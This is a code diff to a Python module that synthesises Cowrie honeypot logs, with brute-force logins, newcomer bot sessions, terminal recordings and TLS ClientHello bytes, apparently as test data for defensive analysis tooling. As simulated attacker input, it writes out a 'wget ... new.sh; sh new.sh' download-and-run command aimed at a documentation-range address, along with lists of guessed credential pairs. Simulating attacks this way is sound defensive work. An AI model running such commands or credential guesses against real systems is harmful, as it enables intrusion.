@@ -6,6 +6,7 @@ addresses of documentation space (RFC 5737, RFC 3849)."""
 
 import hashlib
 import json
+import struct
 from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import date, datetime, timedelta
@@ -15,6 +16,7 @@ from zoneinfo import ZoneInfo
 import numpy as np
 
 from varde.simulate._places import PLACES, source, source_text
+from varde.simulate._recording import recorded_terminal
 
 SENSOR, FILE = "pot1", "pot1-cowrie.json"
 _PAIRS = (
@@ -25,6 +27,9 @@ _PAIRS = (
     ("nagios", "nagios"), ("root", "correct horse battery staple"), ("deploy", "deploy|2026"), ("ubuntu", "ubuntu"),
 )  # fmt: skip
 """The most frequent first: ranks are drawn by Zipf's law."""
+
+_NEW_PAIRS = (("root", "varde-demo-2026"), ("onvif", "Admin@2026"), ("root", "zlxx.2026"))
+"""What newcomers try."""
 
 _VERSIONS = ("SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-paramiko_2.7.2", "SSH-2.0-PUTTY", "SSH-2.0-libssh-0.6.3")
 _COMMANDS = (
@@ -47,6 +52,8 @@ class _Session:
     name: str
     service: str
     events: list[tuple[datetime, dict[str, Any]]]
+    recording: bytes = b""
+    "Its recorded terminal, where it had one."
 
     def say(self, after: float, eventid: str, message: str, **fields: object) -> None:
         """An event so many seconds after the last one."""
@@ -66,14 +73,33 @@ def _number_of(text: str) -> int:
     return int.from_bytes(hashlib.blake2b(text.encode(), digest_size=4).digest(), "big")
 
 
-def honeypot_day(day: date, *, zone: ZoneInfo, seed: int = 1, sessions: int = 900, relays: int = 24) -> tuple[bytes, int]:
-    """Cowrie's JSON lines of one local day in order of time, and how many they are. Same arguments, same bytes."""
-    rng = np.random.default_rng([seed, day.toordinal(), sessions])
-    begin = datetime(day.year, day.month, day.day, tzinfo=zone)
-    found = [*_guesses(rng, begin, sessions), *_relays(rng, begin, relays)]
+def honeypot_day(
+    day: date, *, zone: ZoneInfo, seed: int = 1, sessions: int = 900, relays: int = 24, newcomers: int = 0,
+) -> tuple[bytes, int]:  # fmt: skip
+    """Cowrie's JSON lines of one local day in order of time, and how many they are. Same arguments, same bytes. `newcomers`:
+    sessions of bots that try what no other day's do."""
+    found = _sessions(day, zone, seed, sessions, relays, newcomers)
     events = sorted((event for session in found for event in session.events), key=lambda event: event[0])
     lines = [json.dumps(event, ensure_ascii=False, separators=(",", ":")) for _, event in events]
     return ("\n".join(lines) + "\n").encode(), len(lines)
+
+
+def honeypot_recordings(
+    day: date, *, zone: ZoneInfo, seed: int = 1, sessions: int = 900, relays: int = 24, newcomers: int = 0,
+) -> dict[str, bytes]:  # fmt: skip
+    """The recorded terminals that the lines of the same day name: path below the honeypot's folder, and contents."""
+    found = _sessions(day, zone, seed, sessions, relays, newcomers)
+    return {_recording_path(session.recording): session.recording for session in found if session.recording}
+
+
+def _sessions(day: date, zone: ZoneInfo, seed: int, sessions: int, relays: int, newcomers: int) -> list[_Session]:
+    rng = np.random.default_rng([seed, day.toordinal(), sessions])
+    begin = datetime(day.year, day.month, day.day, tzinfo=zone)
+    return [*_guesses(rng, begin, sessions), *_relays(rng, begin, relays), *_newcomers(rng, begin, newcomers)]
+
+
+def _recording_path(recording: bytes) -> str:
+    return f"var/lib/cowrie/tty/{hashlib.sha256(recording).hexdigest()}"
 
 
 def _opened(rng: np.random.Generator, begin: datetime, src: str, service: str = "ssh") -> _Session:
@@ -117,12 +143,33 @@ def _guesses(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[
 
 def _look_around(rng: np.random.Generator, session: _Session) -> None:
     first = int(rng.integers(0, len(_COMMANDS) - 2))
-    for command in _COMMANDS[first : first + int(rng.integers(1, 4))]:
+    _type(session, list(_COMMANDS[first : first + int(rng.integers(1, 4))]))
+
+
+def _type(session: _Session, commands: list[str]) -> None:
+    """A shell: its size, what is typed into it, what that brings, and the recording of it."""
+    session.say(0.3, "client.size", "Terminal Size: 80 24", width=80, height=24)
+    began = session.events[-1][0]
+    for command in commands:
         session.say(2.0, "command.input", f"CMD: {command}", input=command)
         if "wget" in command:
             sha = hashlib.sha256(command.encode()).hexdigest()
-            session.say(1.5, "session.file_download", f"Downloaded URL (http://198.51.100.77/x.sh) with SHA-256 {sha} to dl/{sha}",
-                        url="http://198.51.100.77/x.sh", shasum=sha, outfile=f"dl/{sha}")  # fmt: skip
+            url = next(word.rstrip(";") for word in command.split() if word.startswith("http"))
+            session.say(1.5, "session.file_download", f"Downloaded URL ({url}) with SHA-256 {sha} to dl/{sha}", url=url, shasum=sha, outfile=f"dl/{sha}")
+    session.recording = recorded_terminal(commands, began)
+    path = _recording_path(session.recording)
+    session.say(1.0, "log.closed", f"Closing TTY Log: {path} after 9 seconds", ttylog=path, size=len(session.recording), shasum=path.rpartition("/")[2], duplicate=False)
+
+
+def _newcomers(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[_Session]:
+    """Bots of one kind that was not there before: its own pairs, its own file, from addresses of three countries."""
+    for number in range(count):
+        session = _opened(rng, begin, _address(("VN", "BR", "IN")[number % 3], 3000 + number))
+        for user, password in _NEW_PAIRS[: 1 + number % len(_NEW_PAIRS)]:
+            _login(session, user, password)
+        if number % 4 == 0 and _login(session, *_LURED):
+            _type(session, ["cd /tmp; wget http://198.51.100.99/bins/new.sh; sh new.sh", "w"])
+        yield _closed(session)
 
 
 def _relays(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[_Session]:
@@ -155,4 +202,19 @@ def _web(rng: np.random.Generator, session: _Session) -> None:
     host = str(rng.choice(_WEB)) if rng.random() < 0.6 else f"198.51.100.{int(rng.integers(1, 250))}"
     port = int(rng.choice([80, 443, 443, 8080]))
     get = f"GET /item/{int(rng.integers(1, 40))} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {rng.choice(_AGENTS)}\r\nAccept: */*\r\n\r\n".encode()
-    _request(session, host, port, b"" if port == 443 else get)
+    _request(session, host, port, _client_hello(host) if port == 443 else get)
+
+
+_CIPHERS = (0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030)
+
+
+def _client_hello(host: str) -> bytes:
+    """The first octets of TLS 1.2 (RFC 5246 7.4.1.2) with a server name (RFC 6066), where the host is one."""
+    name = host.encode()
+    server = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
+    named = b"" if host[0].isdigit() else struct.pack("!HH", 0, len(server)) + server
+    extensions = named + bytes.fromhex("000a00040002001d") + bytes.fromhex("000d000400020403") + bytes.fromhex("002b0003020303")
+    suites = b"".join(struct.pack("!H", suite) for suite in _CIPHERS)
+    body = b"\x03\x03" + bytes(32) + b"\x00" + struct.pack("!H", len(suites)) + suites + b"\x01\x00" + struct.pack("!H", len(extensions)) + extensions
+    hello = b"\x01" + len(body).to_bytes(3, "big") + body
+    return b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello
